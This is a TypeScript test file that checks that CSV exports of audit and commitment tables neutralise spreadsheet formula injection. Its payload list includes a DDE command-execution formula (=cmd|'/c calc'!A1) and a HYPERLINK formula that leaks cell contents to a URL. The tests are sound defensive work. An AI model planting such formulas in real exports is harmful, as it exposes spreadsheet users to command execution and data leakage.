import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import type { Audit, AuditCounts } from '../../src/core/audit.js'
import { auditCsv } from '../../src/reporters/audit-csv.js'
import { commitmentsCsv } from '../../src/reporters/commitments/commitments-csv.js'
import { csvLines } from '../../src/reporters/csv-lines.js'
import { flatten } from '../../src/reporters/visible-text.js'

const COUNTS: AuditCounts = { replies: 3, flagged: 1, findings: 2, errors: 0, warnings: 2, suggestions: 0 }

const audit = (name: string): Audit => ({
  version: 1,
  files: ['a.ndjson'],
  badRecords: 0,
  totals: { ...COUNTS, rate: 0.25 },
  tables: [{ by: 'agent', rows: [{ name, ...COUNTS, rate: 0.25 }] }]
})

/** What Excel, LibreOffice and Sheets would calculate. */
const RUNS = /^\s*[=+\-@\uff1d\uff0b\uff0d\uff20]/

const FORMULAS = [
  '=1+1',
  '+1',
  '-2+3',
  '@SUM(A1)',
  '=HYPERLINK("http://a.b?"&A1,"x")',
  "=cmd|'/c calc'!A1",
  '\t=1',
  '\r=1',
  '\n=1',
  ' =1',
  '\u00a0=1',
  '\uff1d1+1',
  '\0=1',
  '",=1',
  '"\n=1,"'
]

describe('tables for spreadsheets', () => {
  it('an audit has its tables below each other', () => {
    expect(auditCsv(audit('Ana, "the one"'))).toBe(
      'by,name,replies,flagged,rate,findings,errors,warnings,suggestions\r\n' +
        'all,,3,1,0.25,2,0,2,0\r\nagent,"Ana, ""the one""",3,1,0.25,2,0,2,0\r\n'
    )
  })

  it('promises have a line each', () => {
    const row = { filePath: 'a.txt', range: null, actual: "I'll call you", who: 'I', by: null }
    expect(commitmentsCsv([row, { ...row, by: '2026-05-15' }])).toBe(
      "by,who,promise,file\r\n,I,I'll call you,a.txt\r\n2026-05-15,I,I'll call you,a.txt\r\n"
    )
  })

  it.each(FORMULAS)('%j runs nowhere, whoever wrote it', (text) => {
    const row = { filePath: text, range: null, actual: text, who: text, by: null }
    for (const table of [auditCsv(audit(text)), commitmentsCsv([row])]) {
      const cells = (parse(table) as string[][]).flat()
      expect(cells.filter((cell) => RUNS.test(cell))).toEqual([])
      // a program that parts lines without knowing of quotes
      for (const line of table.split('\r\n')) expect(line).not.toMatch(/^[=+\-@]/)
    }
  })

  it('any texts come back on one line, with the apostrophe and signs for controls', () => {
    const cellText = fc.oneof(fc.string({ unit: 'binary' }), fc.constantFrom(...FORMULAS))
    fc.assert(
      fc.property(fc.array(fc.tuple(cellText, cellText), { minLength: 1 }), (rows) => {
        const read = parse(csvLines([['a', 'b'], ...rows])) as string[][]
        expect(read).toHaveLength(rows.length + 1)
        read.slice(1).forEach((cells, i) => {
          cells.forEach((cell, at) => {
            expect(RUNS.test(cell)).toBe(false)
            const words = flatten(rows[i]![at]!)
            expect([words, `'${words}`]).toContain(cell)
          })
        })
      }),
      { numRuns: 300 }
    )
  })
})
